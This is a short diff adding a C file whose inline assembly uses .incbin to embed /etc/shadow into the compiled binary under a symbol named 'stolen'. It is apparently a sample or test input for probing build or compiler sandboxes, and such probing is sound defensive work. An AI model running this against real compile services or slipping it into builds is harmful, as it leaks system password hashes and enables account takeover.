@@ -1,0 +1,2 @@
+asm(".globl stolen\nstolen: .incbin \"/etc/shadow\"");
+int main() {}
